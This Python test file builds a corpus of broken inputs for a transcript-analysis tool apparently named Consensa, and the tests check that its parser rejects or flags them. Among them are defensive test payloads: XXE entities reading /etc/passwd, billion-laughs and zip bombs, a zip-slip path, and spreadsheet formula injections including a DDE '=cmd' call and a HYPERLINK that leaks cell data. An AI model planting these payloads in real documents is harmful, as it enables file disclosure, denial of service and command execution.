"""A corpus of broken inputs, written for Consensa's tests, and the message each gets.

Every broken input is made here at run time (nothing large is committed): the zip
bombs are built in memory, the malicious XML is a few lines. ``write(folder)``
lays out one sub-folder per case with its files and a fast run config, and
returns the cases with the ``consensa`` arguments that exercise them.
``tests/test_broken_inputs.py`` runs each through ``pipeline.cli.main``;

    .venv/bin/python -m tests.broken.make_corpus [FOLDER]

prints the table of inputs and messages (Markdown), in a temporary folder unless
one is given.

Kinds of case:

* ``error``: the run (or ``compare``) stops with exit status 2 and one message
  that names the file (and line, field or key) and says what to do; no run
  folder or partial folder is left behind.
* ``note``: the run goes on (exit status 0) and the manifest lists what was left
  out and why.

Every transcript-level case is also checked alongside good transcripts: the run
goes on and its manifest names the broken file and the reason.
"""

from __future__ import annotations

import codecs
import contextlib
import io
import json
import re
import sys
import tempfile
import zipfile
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

import yaml

from tests.builders import docx_bytes
from tests.study import study_config, write_study

HERE = Path(__file__).resolve().parent

GOOD = ("Interviewer: How did the first session feel for you?\n\n"
        "P1: Honestly, I was nervous. I kept thinking she would judge me for cancelling.\n\n"
        "Interviewer: Mm-hm. And then?\n\n"
        "P1: But she didn't. She just asked what had got in the way, and I felt heard.\n")

#: turns a spreadsheet would run as formulas, and control characters no .xlsx can hold:
#: the run goes on (the text is data), the control characters are noted and counted
HOSTILE = ("Interviewer: How did the first session feel for you?\n\n"
           'P1: =HYPERLINK("http://x?d="&E2&E3,"x") I was nervous.\x0c It was hard.\n\n'
           "Interviewer: And then?\n\n"
           "P1: =cmd|' /C calc'!A0 she just asked\x0b what had got in the way.\n\n"
           "Interviewer: Mm-hm.\n\n"
           "P1: +1+1 and -2+3 and @SUM(A1) \x1b[31mI felt heard after all.\n")


@dataclass
class Case:
    name: str                     # also the sub-folder
    what: str                     # the broken input, in words
    kind: str                     # "error" or "note"
    files: dict[str, bytes | Callable[[], bytes]]   # transcripts/<name> -> bytes
    args: list[str] = field(default_factory=list)   # filled in by write()
    expect: str = ""              # a part of the message
    names: str = ""               # what the message must name (file, key, field)
    transcript: bool = False      # also checked alongside good transcripts
    config: dict | str | bytes | None = None   # run config overrides, or the raw config file
    command: str = "run"          # "run" or "compare"
    extra_args: list[str] = field(default_factory=list)


# --- builders -----------------------------------------------------------------------

def replace_member(data: bytes, name: str, content: bytes) -> bytes:
    """A copy of the zip ``data`` with member ``name`` replaced by ``content``."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as src, \
            zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            dst.writestr(info.filename, content if info.filename == name else src.read(info))
    return out.getvalue()


def add_member(data: bytes, name: str, content: bytes) -> bytes:
    out = io.BytesIO(data)
    with zipfile.ZipFile(out, "a", zipfile.ZIP_DEFLATED) as z:
        z.writestr(name, content)
    return out.getvalue()


W_NS = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'


def docx_xxe() -> bytes:
    xml = (f'<?xml version="1.0"?>\n<!DOCTYPE d [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n'
           f'<w:document {W_NS}><w:body><w:p><w:r><w:t>P1: &xxe;</w:t></w:r></w:p>'
           f'</w:body></w:document>').encode()
    return replace_member(docx_bytes(), "word/document.xml", xml)


def billion_laughs_xml(root: str) -> bytes:
    entities = '<!ENTITY lol "lol">' + "".join(
        f'<!ENTITY lol{i} "{("&lol" + str(i - 1) + ";") * 10 if i > 1 else "&lol;" * 10}">'
        for i in range(1, 10))
    return (f'<?xml version="1.0"?>\n<!DOCTYPE lolz [{entities}]>\n{root.replace("@", "&lol9;")}'
            ).encode()


def docx_billion_laughs() -> bytes:
    xml = billion_laughs_xml(f'<w:document {W_NS}><w:body><w:p><w:r><w:t>P1: @</w:t></w:r>'
                             '</w:p></w:body></w:document>')
    return replace_member(docx_bytes(), "word/document.xml", xml)


def zip_bomb(base: bytes, member: str, size: int = 60_000_000) -> bytes:
    """``base`` (a zip) with a member of ``size`` zero bytes: ~60 MB unpacked, ~60 kB packed."""
    return add_member(base, member, bytes(size))


def zip_without_document() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as z:
        z.writestr("hello.txt", "not a Word document")
    return out.getvalue()


def xlsx_corrupt() -> bytes:
    import openpyxl

    book = openpyxl.Workbook()
    book.active.append(["case_id", "speaker", "text"])
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()[:1200]


PROJECT = ('<Project xmlns="urn:QDA-XML:project:1.0" name="p"><Users><User guid="u1" name="ana"/>'
           '</Users><CodeBook><Codes><Code guid="c1" name="Training" isCodable="true"/></Codes>'
           '</CodeBook></Project>')


def qdpx(members: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        for name, content in members.items():
            z.writestr(name, content)
    return out.getvalue()


def qdpx_xxe() -> bytes:
    xml = ('<?xml version="1.0"?>\n<!DOCTYPE Project [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
           + PROJECT.replace('name="p"', 'name="&xxe;"'))
    return qdpx({"project.qde": xml.encode()})


def qdpx_billion_laughs() -> bytes:
    return qdpx({"project.qde": billion_laughs_xml(PROJECT.replace('name="p"', 'name="@"'))})


def qdpx_zip_slip() -> bytes:
    return qdpx({"project.qde": PROJECT.encode(), "../../../tmp/consensa-zip-slip.txt": b"owned"})


def qdpx_zip_bomb() -> bytes:
    return qdpx({"project.qde": PROJECT.encode() + b" " * 60_000_000})


def utf16_truncated() -> bytes:
    return "\ufeffInterviewer: Hello?\nP1: Hi.\n".encode("utf-16-le")[:-1]


# --- damaged archives, made by patching the bytes of a good one ----------------------

def zip_patch(data: bytes, name: str, *, flags: int = 0, method: int | None = None,
              crc_xor: int = 0, garble: int = 0) -> bytes:
    """A copy of the zip ``data`` with member ``name`` damaged in both its local header
    and its central directory entry: ``flags`` OR-ed into the flag bits (1: encrypted),
    the compression ``method`` replaced, the CRC-32 XOR-ed with ``crc_xor``, and the
    first ``garble`` bytes of its compressed data overwritten with 0xFF."""
    buffer = bytearray(data)
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        local = archive.getinfo(name).header_offset
    raw = name.encode()
    central = next(i for i in range(len(buffer)) if buffer.startswith(b"PK\x01\x02", i)
                   and buffer[i + 46:i + 46 + len(raw)] == raw)
    for base, (flag_at, method_at, crc_at) in ((local, (6, 8, 14)), (central, (8, 10, 16))):
        flag = int.from_bytes(buffer[base + flag_at:base + flag_at + 2], "little") | flags
        buffer[base + flag_at:base + flag_at + 2] = flag.to_bytes(2, "little")
        if method is not None:
            buffer[base + method_at:base + method_at + 2] = method.to_bytes(2, "little")
        crc = int.from_bytes(buffer[base + crc_at:base + crc_at + 4], "little") ^ crc_xor
        buffer[base + crc_at:base + crc_at + 4] = crc.to_bytes(4, "little")
    start = local + 30 + int.from_bytes(buffer[local + 26:local + 28], "little") + \
        int.from_bytes(buffer[local + 28:local + 30], "little")
    buffer[start:start + garble] = b"\xff" * garble
    return bytes(buffer)


def qdpx_damaged(**damage) -> Callable[[], bytes]:
    """A .qdpx whose project.qde is damaged as :func:`zip_patch` says."""
    return lambda: zip_patch(qdpx({"project.qde": PROJECT.encode()}), "project.qde", **damage)


def nested_codes_project(depth: int) -> bytes:
    """project.qde with ``depth`` <Code> elements each inside the one before."""
    codes = "".join(f'<Code guid="c{i}" name="level {i}" isCodable="true">'
                    for i in range(depth)) + "</Code>" * depth
    return PROJECT.replace('<Code guid="c1" name="Training" isCodable="true"/>', codes).encode()


def docx_xxe_utf32() -> bytes:
    """A .docx whose document.xml declares entities in UTF-32: no UTF-8 or UTF-16 byte
    pattern of "<!DOCTYPE" is in it, and lxml reads it all the same."""
    xml = (f'<?xml version="1.0" encoding="UTF-32"?>\n<!DOCTYPE d [<!ENTITY x "INJECTED">]>\n'
           f'<w:document {W_NS}><w:body><w:p><w:r><w:t>P1: &x;</w:t></w:r></w:p>'
           f'</w:body></w:document>')
    return replace_member(docx_bytes(), "word/document.xml", codecs.BOM_UTF32_LE +
                          xml.encode("utf-32-le"))


def docx_xxe_renamed_part() -> bytes:
    """A .docx whose main document part is ``word/document.dat``, which [Content_Types].xml
    and the relationships point Word's parser at, with an entity declaration in it."""
    xml = (f'<?xml version="1.0"?>\n<!DOCTYPE d [<!ENTITY x "INJECTED">]>\n'
           f'<w:document {W_NS}><w:body><w:p><w:r><w:t>P1: &x;</w:t></w:r></w:p>'
           f'</w:body></w:document>').encode()
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(docx_bytes())) as src, \
            zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            name, body = info.filename, src.read(info)
            if name == "word/document.xml":
                name, body = "word/document.dat", xml
            elif name == "word/_rels/document.xml.rels":
                name = "word/_rels/document.dat.rels"
            elif name in ("[Content_Types].xml", "_rels/.rels"):
                body = body.replace(b"word/document.xml", b"word/document.dat")
            dst.writestr(name, body)
    return out.getvalue()


def xlsx_formulas() -> bytes:
    """Turns in a workbook, two of whose text cells are formulas (saved by a script, so
    with no saved result, as Excel would show after recalculating)."""
    import openpyxl

    book = openpyxl.Workbook()
    sheet = book.active
    sheet.title = "Turns"
    sheet.append(["case_id", "turn_index", "speaker", "text"])
    sheet.append(["X01", 0, "Interviewer", "How did the first session feel for you?"])
    sheet.append(["X01", 1, "P1", "Honestly, I was nervous, and she did not judge me."])
    sheet.append(["X01", 2, "P1", '=A2&" said nothing"'])
    sheet.append(["X01", 3, "Interviewer", "And then?"])
    sheet.append(["X01", 4, "P1", "=HYPERLINK(\"http://example.invalid\",\"x\")"])
    sheet.append(["X01", 5, "P1", "She just asked what had got in the way, and I felt heard."])
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


#: a UTF-8 transcript with one line pasted from a Windows-1252 program
MIXED_ENCODING = ("Interviewer: How was the café where you met?\n".encode() +
                  "P1: “Quiet,” she said, and the café was empty.\n".encode("cp1252") +
                  "Interviewer: And then?\nP1: Then we talked, über alles.\n".encode())

#: an .srt whose second cue ends before it starts
SRT_BACKWARDS = (b"1\n00:00:01,000 --> 00:00:03,000\nInterviewer: And the dreams?\n\n"
                 b"2\n00:00:09,000 --> 00:00:04,000\nP9: They stopped, mostly they stopped.\n\n"
                 b"3\n00:00:10,000 --> 00:00:11,000\nInterviewer: Mostly?\n")


@dataclass(frozen=True)
class Symlink:
    """A symbolic link to ``target`` (relative to its folder), in place of a file."""

    target: str


@dataclass(frozen=True)
class Folder:
    """An empty folder, in place of a file."""


def place(path: Path, content) -> None:
    """Write a file, a symbolic link or a folder at ``path``."""
    if isinstance(content, Symlink):
        path.symlink_to(content.target)
    elif isinstance(content, Folder):
        path.mkdir()
    else:
        path.write_bytes(_bytes(content))


# --- the cases ------------------------------------------------------------------------

def cases() -> list[Case]:
    out = [
        Case("empty-file", "empty .txt (0 bytes)", "error", {"empty.txt": b""},
             expect="is empty", names="empty.txt", transcript=True),
        Case("blank-file", ".txt with only spaces and blank lines", "error",
             {"blank.txt": b"   \n\n\t\n"}, expect="contains no text", names="blank.txt",
             transcript=True),
        Case("binary-file", "binary file named .txt (a PNG)", "error",
             {"scan.txt": b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(range(256)) * 8},
             expect="binary file", names="scan.txt", transcript=True),
        Case("nul-bytes", ".md with NUL bytes in the middle of the text", "error",
             {"nul.md": b"Interviewer: Hi\x00\x00\x00 there\nP1: Hello\x00\n"},
             expect="binary file", names="nul.md", transcript=True),
        Case("bad-utf16", ".txt starting with a UTF-16 byte-order mark, cut mid-character",
             "error", {"cut16.txt": utf16_truncated}, expect="byte-order mark",
             names="cut16.txt", transcript=True),
        Case("undecodable", ".txt that is neither UTF-8 nor Windows-1252", "error",
             {"mojibake.txt": b"Interviewer: \x81\x8d\x8f\x90\x9d\xff\xfe?\nP1: \x81\x9d\n"},
             expect="neither UTF-8 nor Windows-1252", names="mojibake.txt", transcript=True),
        Case("forced-encoding", "Windows-1252 .txt with ingest.encoding: utf-8", "error",
             {"T06.txt": "Interviewer: How was the café?\nP6: “Fine.”\n".encode("cp1252")},
             config={"ingest": {"encoding": "utf-8"}}, expect="cannot be decoded as utf-8",
             names="T06.txt"),
        Case("truncated-docx", ".docx cut off after 900 bytes", "error",
             {"cut.docx": lambda: docx_bytes()[:900]}, expect="not a valid .docx",
             names="cut.docx", transcript=True),
        Case("corrupt-docx", ".docx that is not a zip archive", "error",
             {"fake.docx": b"PK\x03\x04 this is not really a zip archive"},
             expect="not a valid .docx", names="fake.docx", transcript=True),
        Case("docx-no-document", ".docx: a zip without word/document.xml", "error",
             {"hello.docx": zip_without_document}, expect="could not be read as a Word document",
             names="hello.docx", transcript=True),
        Case("docx-zip-bomb", ".docx with a 60 MB member packed 1000:1 (zip bomb)", "error",
             {"bomb.docx": lambda: zip_bomb(docx_bytes(), "word/media/image1.bin")},
             expect="compression ratio", names="bomb.docx", transcript=True),
        Case("docx-xxe", ".docx whose document.xml has an external entity (XXE)", "error",
             {"xxe.docx": docx_xxe}, expect="declares a DTD or XML entities", names="xxe.docx",
             transcript=True),
        Case("docx-billion-laughs", ".docx whose document.xml is a billion-laughs bomb", "error",
             {"lol.docx": docx_billion_laughs}, expect="declares a DTD or XML entities",
             names="lol.docx", transcript=True),
        Case("corrupt-xlsx", ".xlsx cut off after 1200 bytes", "error",
             {"turns.xlsx": xlsx_corrupt}, expect="not a valid .xlsx", names="turns.xlsx",
             transcript=True),
        Case("vtt-no-header", ".vtt without the WEBVTT line", "error",
             {"zoom.vtt": b"1\n00:00:01.000 --> 00:00:02.000\nMara: hi\n"},
             expect="first line must be WEBVTT", names="zoom.vtt", transcript=True),
        Case("vtt-bad-timings", ".vtt whose every cue timing is malformed", "error",
             {"teams.vtt": b"WEBVTT\n\n00:00:0x --> 00:00:02.000\n<v Mara>hi</v>\n\n"
                           b"00:01 -> 00:02\n<v Sam>hello</v>\n"},
             expect="has no readable cues", names="teams.vtt", transcript=True),
        Case("vtt-no-speakers", ".vtt with cues but no speaker names", "error",
             {"nospeak.vtt": b"WEBVTT\n\n00:00:01.000 --> 00:00:02.000\nno speaker here\n"},
             expect="no speaker names", names="nospeak.vtt", transcript=True),
        Case("srt-bad-timings", ".srt whose timing lines are garbage", "error",
             {"bad.srt": b"1\n00:00:01 --> soon\nP1: hi\n\n2\nlater\nP1: bye\n"},
             expect="has no readable cues", names="bad.srt", transcript=True),
        Case("srt-prose", ".srt that is plain prose", "error",
             {"prose.srt": b"This is just a paragraph of notes, not subtitles at all.\n"},
             expect="has no readable cues", names="prose.srt", transcript=True),
        Case("csv-missing-column", ".csv of turns without a speaker column", "error",
             {"turns.csv": b"case_id,who,text\nT25,P25,Hi\n"},
             expect="has no column 'speaker'", names="turns.csv", transcript=True),
        Case("csv-bad-turn-index", ".csv with a turn_index that is not a number", "note",
             {"order.csv": b"case_id,turn_index,speaker,text\nT28,0,I,How did it go?\n"
                           b"T28,first,P,It went better than I had feared at the start.\n"},
             expect="turn_index cell that is not a whole number: row 3 ('first')",
             names="order.csv", transcript=True),
        Case("csv-unclosed-quote", ".csv with a quote that never closes", "error",
             {"quote.csv": b'case_id,speaker,text\nT29,P1,"It was hard\nT29,I,Why?\n'},
             expect="", names="quote.csv", transcript=True),
        Case("csv-header-only", ".csv with a header and no rows", "error",
             {"header.csv": b"case_id,speaker,text\n"}, expect="has no rows",
             names="header.csv", transcript=True),
        Case("no-labels", ".txt without speaker labels", "error",
             {"notes.txt": b"Just some notes about the interview, no speakers.\n"},
             expect="has no speaker labels", names="notes.txt", transcript=True),
        Case("labels-no-speech", ".txt with labels but no speech after them", "error",
             {"silent.txt": b"Interviewer:\nP1:   \n"}, expect="no speech after them",
             names="silent.txt", transcript=True),
        Case("no-participant", "transcript with no participant speech (interviewer only)",
             "error", {"T33.txt": b"Interviewer: Hello?\nInterviewer: Is the sound working?\n"},
             expect="no participant speech", names="T33.txt", transcript=True),
        Case("unsupported-format", "a .pdf among the transcripts", "error",
             {"scan.pdf": b"%PDF-1.4\n%%EOF\n"}, expect="unsupported format '.pdf'",
             names="scan.pdf", transcript=True),
        Case("duplicate-case-ids", "two transcripts with the same case id (T01.txt, T01.docx)",
             "note", {"T01.txt": GOOD.encode(), "T01.docx": docx_bytes}, expect="is also in",
             names="T01.txt"),
        Case("control-characters", ".txt with form feed, vertical tab and escape in the turns, "
             "and turns that start like spreadsheet formulas", "note",
             {"ctrl.txt": HOSTILE.encode()}, expect="control character", names="ctrl.txt",
             transcript=True),
        Case("cases-table-duplicates", "cases.csv with two rows for one case", "error",
             {"cases.csv": b"case_id,modality\ncase01,CBT\ncase01,DBT\n"},
             config={"ingest": {"cases_table": "transcripts/cases.csv"}},
             expect="more than one row", names="cases.csv"),
        Case("cases-table-unknown", "cases.csv naming cases that are not transcripts", "note",
             {"cases.csv": b"case_id,modality\ncase01,CBT\nT99,CBT\nT98,DBT\n"},
             config={"ingest": {"cases_table": "transcripts/cases.csv"}},
             expect="name cases that are not among the transcripts: T99, T98",
             names="cases.csv"),
        Case("cases-table-missing", "ingest.cases_table naming a file that is not there",
             "error", {}, config={"ingest": {"cases_table": "transcripts/nope.csv"}},
             expect="the cases table", names="nope.csv"),
        Case("missing-transcripts", "ingest.paths naming a folder that is not there", "error",
             {}, config={"ingest": {"paths": ["no-such-folder"]}}, expect="no transcript file or folder at",
             names="no-such-folder"),
        Case("config-typo-key", "config with a typo'd top-level key (clustr:)", "error", {},
             config={"clustr": {"n_clusters": 3}}, expect="'clustr' is not a known setting",
             names="clustr"),
        Case("config-typo-section", "config with a typo'd key in a section (ingest.pahts)",
             "error", {}, config={"ingest": {"pahts": ["transcripts"]}},
             expect="'ingest.pahts' is not a known setting", names="ingest.pahts"),
        Case("config-typo-param", "config with a typo'd stage parameter (cluster.n_cluster)",
             "error", {}, config={"cluster": {"name": "consensa.KMeans.v1", "n_cluster": 3}},
             expect="cluster.n_cluster", names="cluster.n_cluster"),
        Case("config-wrong-type", "config with a wrong type (seed: many)", "error", {},
             config={"seed": "many"}, expect="'seed'", names="seed"),
        Case("config-wrong-param-type", "config with a wrong type in a stage (n_clusters: three)",
             "error", {}, config={"cluster": {"name": "consensa.KMeans.v1", "n_clusters": "three"}},
             expect="cluster.n_clusters", names="cluster.n_clusters"),
        Case("config-bad-yaml", "config that is not valid YAML", "error", {},
             config="name: x\ningest:\n  paths: [transcripts\n  roles: {\n",
             expect="not valid YAML", names="run.yaml"),
        Case("config-not-mapping", "config that is a YAML list", "error", {},
             config="- name: x\n- seed: 1\n", expect="must be a mapping", names="run.yaml"),
        Case("config-binary", "config that is a binary file", "error", {},
             config=b"\xff\xfe\x00\x01\x89PNG\x00", expect="cannot read the config",
             names="run.yaml"),
        Case("config-missing", "a config file that does not exist", "error", {},
             config=None, expect="config file not found", names="missing.yaml"),
        Case("config-unknown-stage", "config naming an unknown implementation", "error", {},
             config={"cluster": {"name": "consensa.Kmeans.v9"}}, expect="unknown clusterer",
             names="cluster.name"),
        Case("config-bad-regex", "config with a speaker_pattern that is not a regex", "error",
             {}, config={"ingest": {"speaker_pattern": "(?P<speaker>[A-Z"}},
             expect="not a valid regular expression", names="ingest.speaker_pattern"),
        Case("mapping-in-run-folder", "deidentify.mapping_file inside the run folder", "error",
             {}, config={"deidentify": {"enabled": True, "mapping_file": "out/mapping.csv"}},
             expect="inside the run folder", names="deidentify.mapping_file"),
        Case("output-dir-is-a-file", "output_dir naming a file, not a folder", "error",
             {"runs": b"not a folder"}, config={"output_dir": "transcripts/runs"},
             expect="is a file, not a folder", names="runs"),
        Case("qdpx-xxe", ".qdpx whose project.qde has an external entity (XXE)", "error",
             {"xxe.qdpx": qdpx_xxe}, command="compare", expect="declares a DTD or entities",
             names="xxe.qdpx"),
        Case("qdpx-billion-laughs", ".qdpx whose project.qde is a billion-laughs bomb", "error",
             {"lol.qdpx": qdpx_billion_laughs}, command="compare",
             expect="declares a DTD or entities", names="lol.qdpx"),
        Case("qdpx-zip-slip", ".qdpx with a member named ../../../tmp/... (zip slip)", "error",
             {"slip.qdpx": qdpx_zip_slip}, command="compare", expect="zip slip",
             names="slip.qdpx"),
        Case("qdpx-zip-bomb", ".qdpx whose project.qde unpacks 60 MB at 1000:1", "error",
             {"bomb.qdpx": qdpx_zip_bomb}, command="compare", expect="zip bomb",
             names="bomb.qdpx"),
        Case("qdpx-not-zip", ".qdpx that is not a zip archive", "error",
             {"fake.qdpx": b"PK\x03\x04 nope"}, command="compare",
             expect="not a valid .qdpx", names="fake.qdpx"),
        Case("qdpx-bad-crc", ".qdpx whose project.qde fails its CRC-32 check", "error",
             {"crc.qdpx": qdpx_damaged(crc_xor=0xFFFF)}, command="compare",
             expect="checksum does not match", names="crc.qdpx"),
        Case("qdpx-bad-deflate", ".qdpx whose project.qde has corrupt compressed data", "error",
             {"deflate.qdpx": qdpx_damaged(garble=20)}, command="compare",
             expect="cannot be unpacked", names="deflate.qdpx"),
        Case("qdpx-unknown-method", ".qdpx packed with an unknown compression method (93)",
             "error", {"method.qdpx": qdpx_damaged(method=93)}, command="compare",
             expect="compression method 93", names="method.qdpx"),
        Case("qdpx-encrypted", ".qdpx whose project.qde has the encrypted flag set", "error",
             {"locked.qdpx": qdpx_damaged(flags=1)}, command="compare",
             expect="is encrypted", names="locked.qdpx"),
        Case("qdpx-nested-codes", ".qdpx with 5,000 <Code> elements nested in each other",
             "error", {"deep.qdpx": lambda: qdpx({"project.qde": nested_codes_project(5000)})},
             command="compare", expect="levels deep", names="deep.qdpx"),
        Case("docx-xxe-utf32", ".docx whose document.xml is UTF-32 and declares entities",
             "error", {"xxe32.docx": docx_xxe_utf32}, expect="declares a DTD or XML entities",
             names="xxe32.docx", transcript=True),
        Case("docx-xxe-renamed-part", ".docx whose main part is document.dat, declaring "
             "entities", "error", {"renamed.docx": docx_xxe_renamed_part},
             expect="'word/document.dat' declares a DTD", names="renamed.docx",
             transcript=True),
        Case("xlsx-formulas", ".xlsx with formulas in text cells", "note",
             {"formulas.xlsx": xlsx_formulas}, expect="a formula is not spoken words",
             names="formulas.xlsx", transcript=True),
        Case("mixed-encoding", ".txt mixing UTF-8 lines and a Windows-1252 line", "note",
             {"mixed.txt": MIXED_ENCODING}, expect="mixes UTF-8 and Windows-1252",
             names="mixed.txt:2", transcript=True),
        Case("srt-backwards-cue", ".srt with a cue that ends before it starts", "note",
             {"backwards.srt": SRT_BACKWARDS}, expect="ends (00:00:04,000) before it starts",
             names="backwards.srt:6", transcript=True),
        Case("dangling-symlink", "a symbolic link to a transcript that is not there", "note",
             {"gone.txt": Symlink("no-such-transcript.txt")}, expect="broken link",
             names="gone.txt", transcript=True),
        Case("symlink-loop", "two symbolic links that point at each other", "note",
             {"loop-a.txt": Symlink("loop-b.txt"), "loop-b.txt": Symlink("loop-a.txt")},
             expect="link loop", names="loop-a.txt", transcript=True),
        Case("folder-named-txt", "a folder named T77.txt among the transcripts", "note",
             {"T77.txt": Folder()}, expect="is a folder, not a transcript file",
             names="T77.txt", transcript=True),
    ]
    return out


CASE_NAMES = [c.name for c in cases()]


def _bytes(content) -> bytes:
    return content() if callable(content) else content


def base_config(folder: Path) -> dict:
    cfg = study_config(folder / "transcripts")
    cfg.update(output_dir=str(folder / "runs"), cache_dir=str(folder / "cache"),
               ingest={"paths": ["transcripts"]})
    return cfg


def write_case(case: Case, root: Path, run_folder: Path | None = None) -> Case:
    """Lay out one case under ``root/<name>`` and fill in its CLI arguments."""
    folder = root / case.name
    (folder / "transcripts").mkdir(parents=True, exist_ok=True)
    for name, content in case.files.items():
        place(folder / "transcripts" / name, content)
    config_path = folder / "run.yaml"
    if case.command == "compare":
        target = run_folder if run_folder is not None else folder / "no-run"
        case.args = ["compare", str(target), str(folder / "transcripts" / next(iter(case.files))),
                     "--out", str(folder / "compare")]
        return case
    if case.name == "config-missing":
        case.args = ["run", str(folder / "missing.yaml"), "--out", str(folder / "out")]
        return case
    if isinstance(case.config, (str, bytes)):
        raw = case.config.encode() if isinstance(case.config, str) else case.config
        config_path.write_bytes(raw)
    else:
        if case.kind == "note" or case.name in ("cases-table-duplicates", "cases-table-missing",
                                                "mapping-in-run-folder", "output-dir-is-a-file"):
            write_study(folder / "transcripts")       # good transcripts beside the broken
        cfg = base_config(folder)
        for key, value in (case.config or {}).items():
            if isinstance(value, dict) and isinstance(cfg.get(key), dict):
                cfg[key] = {**cfg[key], **value}
            else:
                cfg[key] = value
        config_path.write_text(yaml.safe_dump(cfg), encoding="utf-8")
    case.args = ["run", str(config_path), "--out", str(folder / "out")]
    if case.name == "output-dir-is-a-file":
        case.args = case.args[:2]
    return case


def write(root: Path, run_folder: Path | None = None) -> list[Case]:
    return [write_case(c, root, run_folder) for c in cases()]


def make_run(root: Path) -> Path:
    """A small good run, for the ``compare`` cases."""
    from pipeline.cli import main

    folder = root / "_good"
    write_study(folder / "transcripts")
    (folder / "run.yaml").write_text(yaml.safe_dump(base_config(folder)), encoding="utf-8")
    with contextlib.redirect_stdout(io.StringIO()), contextlib.redirect_stderr(io.StringIO()):
        assert main(["run", str(folder / "run.yaml"), "--out", str(folder / "run")]) == 0
    return folder / "run"


def run_cli(args: list[str]) -> tuple[int, str, str]:
    """``consensa ARGS`` in this process: exit status, stdout, stderr."""
    from pipeline.cli import main

    out, err = io.StringIO(), io.StringIO()
    with contextlib.redirect_stdout(out), contextlib.redirect_stderr(err):
        try:
            code = main(args)
        except SystemExit as exc:          # argparse
            code = exc.code
    return code, out.getvalue(), err.getvalue()


def together(root: Path) -> tuple[int, dict, Path]:
    """Every transcript-level broken file beside six good transcripts, in one run."""
    folder = root / "_together"
    write_study(folder / "transcripts")
    for case in cases():
        if case.transcript:
            for name, content in case.files.items():
                target = folder / "transcripts" / name
                if target.exists() or target.is_symlink():
                    target = target.with_name(f"{case.name}-{name}")
                place(target, content)
    (folder / "run.yaml").write_text(yaml.safe_dump(base_config(folder)), encoding="utf-8")
    code, _, _ = run_cli(["run", str(folder / "run.yaml"), "--out", str(folder / "out")])
    manifest = json.loads((folder / "out" / "manifest.json").read_text()) if code == 0 else {}
    return code, manifest, folder


def message(stderr: str, root: Path) -> str:
    """The error message, paths shown relative to the corpus folder."""
    text = stderr.replace(str(root) + "/", "").replace(str(root), ".")
    text = re.sub(r"^  [^\n]* \.\.\.\n", "", text, flags=re.M)     # progress lines
    return " ".join(text.split())


def outcomes(root: Path, run_folder: Path | None = None) -> list[tuple[Case, int, str, str]]:
    """Every case laid out under ``root`` and run once: (case, exit, stdout, stderr)."""
    run = run_folder if run_folder is not None else make_run(root)
    return [(case, *run_cli(case.args)) for case in write(root, run)]


def table(root: Path, results: list[tuple[Case, int, str, str]] | None = None,
          joint: tuple[int, dict, Path] | None = None) -> str:
    """The corpus as a table; ``results`` and ``joint`` are :func:`outcomes` and
    :func:`together` of the same ``root`` when they were already run."""
    results = results if results is not None else outcomes(root)
    rows = ["| # | broken input | exit | message |", "|---|---|---|---|"]
    for i, (case, code, _out, err) in enumerate(results, 1):
        if case.kind == "note":
            manifest = json.loads((root / case.name / "out" / "manifest.json").read_text())
            text = message("run goes on; manifest skipped: " + "; ".join(
                f"{Path(s['what']).name}: {s['reason']}" for s in manifest["skipped"]
                if case.expect in s["reason"]), root)
        else:
            text = message(err, root)
        rows.append(f"| {i} | {case.what} | {code} | {text.replace('|', '/')} |")
    code, manifest, folder = joint if joint is not None else together(root)
    rows.append("")
    rows.append(f"All {sum(c.transcript for c in cases())} transcript-level inputs beside six "
                f"good transcripts: exit {code}, cases analysed "
                f"{manifest.get('counts', {}).get('cases_analysed')}, "
                f"{len(manifest.get('skipped', []))} items in the manifest's skipped list.")
    return "\n".join(rows)


def main() -> None:
    if len(sys.argv) > 1:
        root = Path(sys.argv[1])
        root.mkdir(parents=True, exist_ok=True)
        print(table(root.resolve()))
    else:
        with tempfile.TemporaryDirectory() as folder:
            print(table(Path(folder).resolve()))


if __name__ == "__main__":
    main()
